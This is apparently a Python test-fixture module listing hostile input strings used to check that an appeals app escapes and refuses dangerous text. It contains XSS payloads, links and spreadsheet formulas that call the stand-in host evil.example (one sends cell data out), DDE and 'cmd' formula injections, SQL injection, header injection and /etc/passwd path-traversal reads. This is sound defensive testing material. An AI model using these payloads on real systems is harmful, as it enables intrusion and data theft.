r"""Texts that mean harm, or that break what doesn't expect them: each as somebody could write it into an appeal.

What would ask outside asks `evil.example`; what would run, calls `alert` or sets `window.hurt`.
"""

EVIL_HOST = "evil.example"
"""A host that nothing may ask."""
MARKER = "HOSTILE"
"""Stands in texts of which a screen is to show the whole."""

MARKUP = (
    "<script>alert('script')</script>",
    "<img src=x onerror=alert('img')>",
    "<img src=http://evil.example/pixel.png>",
    "<svg/onload=alert('svg')>",
    "<body onload=alert('body')>",
    "<iframe src=http://evil.example></iframe>",
    '<iframe srcdoc="<script>parent.hurt=1</script>"></iframe>',
    "<a href=javascript:alert('a')>HOSTILE anchor</a>",
    "<a href=http://evil.example>HOSTILE link</a>",
    "<details open ontoggle=alert('details')>HOSTILE</details>",
    "<style>@import 'http://evil.example/x.css'; *{display:none}</style>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<object data=http://evil.example/x.swf></object>",
    "<math><mtext></table><img src=x onerror=alert('mxss')></math>",
    "\"><script>alert('quote')</script>",
    "'-alert('js')-'",
    "</text></svg><script>alert('svg text')</script>",
    "</script><script>alert('closed')</script>",
    "<!--<img src=\"--><img src=x onerror=alert('comment')//\">",
    "<h1>HOSTILE heading</h1><b>HOSTILE bold</b>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert('template')}",
    "javascript:alert('url')",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
)
MARKDOWN = (
    "[HOSTILE md link](http://evil.example)",
    "[HOSTILE md script](javascript:alert('md'))",
    "![HOSTILE image](http://evil.example/x.png)",
    "[![HOSTILE](http://evil.example/x.png)](http://evil.example)",
    "https://evil.example/bare?HOSTILE=1",
    "www.evil.example/HOSTILE",
    "<https://evil.example/angle>",
    "HOSTILE@evil.example",
    "mailto:HOSTILE@evil.example",
    "# HOSTILE heading",
    "- HOSTILE item",
    "1. HOSTILE item",
    "> HOSTILE quote",
    "---",
    "**HOSTILE bold** _HOSTILE italic_ ~~HOSTILE~~ `HOSTILE code`",
    "```\nHOSTILE fence\n```",
    "    HOSTILE indented",
    "| HOSTILE | table |\n|---|---|\n| a | b |",
    "HOSTILE[^1]\n\n[^1]: http://evil.example",
    "[HOSTILE ref]\n\n[HOSTILE ref]: http://evil.example",
    "**</strong>** HOSTILE ** not closed",
    "HOSTILE \\ backslash \\* \\[x\\](y)",
    "$HOSTILE^2$ and $$\\int HOSTILE$$ \\href{http://evil.example}{x}",
    ":red[HOSTILE red] :blue-background[HOSTILE]",
    ":material/skull: HOSTILE :material/delete:",
    ":smile: HOSTILE :skull_and_crossbones: :streamlit:",
    "HOSTILE -> <- <-> -- >= <= ~=",
    "&lt;img src=x onerror=alert('entity')&gt;",
    "&#60;script&#62;alert('number')&#60;/script&#62; &amp;amp; HOSTILE",
)
FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://evil.example?x="&A1,"HOSTILE")',
    "=cmd|'/C calc'!A0",
    '=IMPORTXML("http://evil.example","//a")',
    '=WEBSERVICE("http://evil.example")',
    "+1+cmd|' /C calc'!A0",
    "-1+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    'HOSTILE";=1+1;"',
    'HOSTILE","=1+1","',
    'DDE("cmd";"/C calc";"x")',
)
SPECIAL_CHARACTERS = (
    "HOSTILE \u202etxt.exe\u202c and \u2066left\u2069",
    "HO\u200bSTI\u200dLE\ufeff zero\u2060width",
    "Z\u0301\u0300\u0302" + "\u0336\u0489\u0330" * 100 + "HOSTILE",
    "HOSTILE \x01\x02\x07\x08\x1b[31mred\x1b[0m\x7f\x85\x9b",
    "HOSTILE\r\nSet-Cookie: hurt=1\r\n\r\n<script>alert('header')</script>",
    "مرحبا HOSTILE שלום",
    "HOSTILE 👩‍👩‍👧‍👦🏳️‍🌈\U000e0041\U0010ffff\ufffe",
    "HOSTILE\u2028line\u2029paragraph",
    "ﷺ" * 50 + "HOSTILE",
    "'; DROP TABLE appeal; -- HOSTILE",
    "%s %d %n {0} {name} {text} HOSTILE",
)
TEMPLATE_EXPRESSIONS = (
    "@@=alert('deck')",
    "@@=constructor.constructor('hurt=1')()",
    "@@=)(",
    "@@#GL.LINES",
    "datum.hurt = 1",
    '{"signal": "width", "expr": "alert(\'vega\')"}',
    '{"image": "http://evil.example/x.png"}',
    '["HOSTILE", "list"]',
    "{tip} {{tip}} {code}",
    '#read("/etc/passwd")',
    '#image("/etc/passwd") #include "/etc/passwd"',
    "HOSTILE @ref <label> *strong* _emph_ [content] #[code] $x$ // comment",
    "../../../../etc/passwd\\HOSTILE",
    "null",
    "NaN",
    "true",
)
LONG_TEXT = "HOSTILE long " + "ё" * 1_000_000
"""A megabyte and more of one word."""
HOSTILE_TEXTS = (*MARKUP, *MARKDOWN, *FORMULAS, *SPECIAL_CHARACTERS, *TEMPLATE_EXPRESSIONS)
"""Those of ordinary length."""
WITH_NUL = "HOSTILE\x00=1+1"
"""No text of the database's can hold it: it has to be refused or go without."""
